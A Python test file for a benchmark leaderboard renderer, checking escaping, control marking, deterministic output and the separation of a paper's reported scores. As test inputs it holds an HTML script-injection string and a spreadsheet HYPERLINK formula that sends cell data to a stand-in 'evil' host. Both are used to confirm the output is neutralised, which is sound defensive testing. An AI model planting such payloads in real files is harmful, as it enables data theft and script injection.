"""The pages of a board: their texts, escapes and bytes, by hand-made summaries."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from synthetic_records import board_of, record, sections_of

from benchmark.board.leaderboard import leaderboard
from benchmark.board.markup import escape_html, escape_latex, markdown
from benchmark.board.reported import reported
from benchmark.board.tables import csv_of, seconds, tables_of
from olrd.errors import SourceError
from olrd.trust import escape_markdown

HOSTILE = 'a<b>|c&d_e%"$#{}\\~^`*[x](y)</td><script>alert(1)</script>'


def test_too_few_photos_are_said_where_the_interval_would_stand() -> None:
    few = record("a", intervals="jackknife")
    few["scores"]["psnr/mask/raw"] |= {"low": None, "high": None, "clusters": 6, "no_interval": "too_few_photos"}
    few["sets"]["fid/raw"] |= {"low": None, "high": None, "clusters": 6, "no_interval": "too_few_photos"}
    (section,) = sections_of(few)
    table = tables_of(section)[0]
    texts = {head: cell.small for head, cell in zip(table.head, table.rows[0], strict=True)}
    assert texts["psnr/mask/raw, dB ↑"] == "too few photos (6)"
    assert texts["fid/raw ↓"] == "too few photos (6), n=10"
    row = next(csv.DictReader(io.StringIO(csv_of([section]))))
    assert (row["psnr/mask/raw low"], row["psnr/mask/raw no_interval"]) == ("", "too few photos (6)")
    assert "too few photos (6)" in markdown([section], "plot.svg")


def test_pages_mark_controls_and_keep_long_settings_out_of_the_table(tmp_path: Path) -> None:
    settings = {"steps": "12", "prompt": "short"}
    board = board_of(
        tmp_path,
        record("a", 20.0, method__options=settings),
        record("b", 19.0, method__options={"seed": "1"}),
        record("b", 18.0, method__options={"seed": "2"}),
        record("c", 15.0, method__control=True),
    )
    leaderboard(board)
    text = (board / "toy.md").read_text()
    assert "| - | *c* control | 1 |" in text and "| a | 1 |" in text
    assert "- **a**: prompt=short, steps=12" in text
    assert "b seed=1" in text and "b seed=2" in text  # nothing else tells them apart
    assert r"\textit{c} {\scriptsize control}" in (board / "toy.tex").read_text()
    assert "c <i>control</i>" in (board / "toy.html").read_text()
    rows = list(csv.DictReader(io.StringIO((board / "toy.csv").read_text())))
    assert [(row["rank"], row["control"]) for row in rows] == [("1", "no"), ("2", "no"), ("3", "no"), ("", "yes")]
    assert [row["rank_by_psnr"] for row in rows] == ["1", "2", "3", ""]


@pytest.mark.slow
def test_same_records_same_bytes_whatever_their_order(tmp_path: Path) -> None:
    records = [record(f"m{k}", 20.0 + k % 3) for k in range(5)]
    records += [record("m0", 22.0, protocol__id="q"), record("x", 3.0, n_failed=1, n=9)]
    one = board_of(tmp_path / "one", *records)
    random.Random(1).shuffle(records)
    other = board_of(tmp_path / "other", *records)
    first = {p.relative_to(one): p.read_bytes() for p in leaderboard(one)}
    assert first == {p.relative_to(other): p.read_bytes() for p in leaderboard(other)}
    assert sorted(map(str, first)) == ["reported.md", "toy.csv", "toy.html", "toy.md", "toy.svg", "toy.tex"]
    leaderboard(one)
    assert {p.relative_to(one): p.read_bytes() for p in leaderboard(one)} == first


def test_a_dataset_called_reported_does_not_take_the_papers_page(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", dataset__name="reported"))
    assert len(set(leaderboard(board))) == 6
    assert (board / "reported.md").read_text() == reported()


def test_an_empty_board_says_how_to_fill_it(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="no records"):
        leaderboard(tmp_path)


class Cells(HTMLParser):
    """The tags of a page, and the text of each table cell's first line."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.cells: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "td":
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data


def test_names_cannot_become_markup(tmp_path: Path) -> None:
    def made(text: str, folder: Path) -> Path:
        board = board_of(
            folder,
            record(
                text,
                method__revision=text,
                method__options={"o": text},
                dataset__warnings=[text],
                protocol__id=text,
                metrics__psnr__definition=text,
            ),
            record("z", 1.0, protocol__id=text, dataset__warnings=[text], metrics__psnr__definition=text),
        )
        leaderboard(board)
        return board

    hostile, plain = made(HOSTILE, tmp_path / "h"), made("plain", tmp_path / "p")
    page, clean = (Cells((board / "toy.html").read_text()) for board in (hostile, plain))
    assert page.tags == clean.tags
    assert page.tags.count("script") == 2  # the page's own, and its data
    assert page.cells[1] == HOSTILE + "o=" + HOSTILE
    (data,) = re.findall(r'<script type="application/json">(.*?)</script>', (hostile / "toy.html").read_text())
    assert HOSTILE in [row["name"] for row in json.loads(data)["rows"]]
    tree = ET.fromstring((hostile / "toy.svg").read_text())
    assert HOSTILE[:20] in "".join(tree.itertext())
    for board in (hostile, plain):
        lines = (board / "toy.md").read_text().splitlines()
        widths = {line.replace("\\|", "").count("|") for line in lines if line.startswith("| ")}
        assert widths == {12, 9}
    markdown = (hostile / "toy.md").read_text()
    assert "<script" not in markdown and r"a&lt;b&gt;\|c&amp;d\_e" in markdown
    latex = (hostile / "toy.tex").read_text()
    assert r"a\textless{}b\textgreater{}\textbar{}c\&d\_e\%" in latex
    rows = list(csv.DictReader(io.StringIO((hostile / "toy.csv").read_text())))
    assert rows[0]["method"] == HOSTILE


def test_escapes_by_hand() -> None:
    assert escape_markdown("a|b_c<d&e\nf") == r"a\|b\_c&lt;d&amp;e f"
    assert escape_latex("a_b&c<d|e%") == r"a\_b\&c\textless{}d\textbar{}e\%"
    assert escape_latex("\\{") == r"\textbackslash{}\{"
    assert escape_html("<a b='c'>&") == "&lt;a b=&#x27;c&#x27;&gt;&amp;"


def test_warnings_stand_above_the_table(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", dataset__warnings=["doing nothing scores best"]))
    leaderboard(board)
    for suffix in ("md", "html"):
        text = (board / f"toy.{suffix}").read_text()
        assert 0 < text.index("doing nothing scores best") < text.index("Ranked by")
    assert "doing nothing scores best" in (board / "toy.tex").read_text()


def test_csv_holds_the_numbers_in_full(tmp_path: Path) -> None:
    board = board_of(tmp_path, record("a", 20.123456789012345), record("t", None))
    leaderboard(board)
    rows = list(csv.DictReader(io.StringIO((board / "toy.csv").read_text())))
    assert float(rows[1]["psnr/mask/raw value"]) == 20.123456789012345
    assert rows[0]["psnr/mask/raw value"] == "" and rows[0]["psnr/mask/raw identical"] == "10"
    assert rows[0]["fid/raw n"] == "10" and rows[0]["lpips-alex/ring/raw value"] == "0.0"


def test_what_must_be_said_of_a_set_score_stands_beside_it(tmp_path: Path) -> None:
    said = {"fid/raw": {"value": 31.5, "n": 9, "reason": "biased below n=2048; 1 failed: E: no"}}
    board = board_of(tmp_path, record("a", sets=said))
    leaderboard(board)
    for suffix in ("md", "html"):
        text = (board / f"toy.{suffix}").read_text()
        assert "n=9, biased below n=2048; 1 failed: E: no" in text


def test_seconds_read_well() -> None:
    assert [seconds(v) for v in (0.01234, 1.5, 12.34, 1234.5)] == ["0.0123", "1.50", "12.3", "1234"]


def test_the_papers_numbers_are_labelled_and_apart(tmp_path: Path) -> None:
    text = reported()
    assert text.startswith("# Reported by the paper, not measured here")
    assert "| MagicEraser | 28.123 | 0.947 | 0.032 | 30.02 |" in text
    assert "| Google Photos eraser | 20.310 |" in text
    ablation, realhm = text.split("## Ablation")[1], text.split("## RealHM")[1]
    assert "23.620 | 0.861 | 0.101 | 46.56" in ablation and "23.620 | 0.861" in realhm
    board = board_of(tmp_path, record("a"))
    leaderboard(board)
    for path in board.glob("toy.*"):
        assert "28.123" not in path.read_text()


def test_no_text_of_a_record_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    board = board_of(tmp_path, record("a", method__name=formula, method__revision="+1+1", method__options={"@o": "1"}))
    leaderboard(board)
    (row,) = csv.DictReader(io.StringIO((board / "toy.csv").read_text()))
    assert (row["method"], row["revision"], row["settings"]) == (f"'{formula}", "'+1+1", "'@o=1")
    assert row["psnr/mask/raw value"] == "20.0"
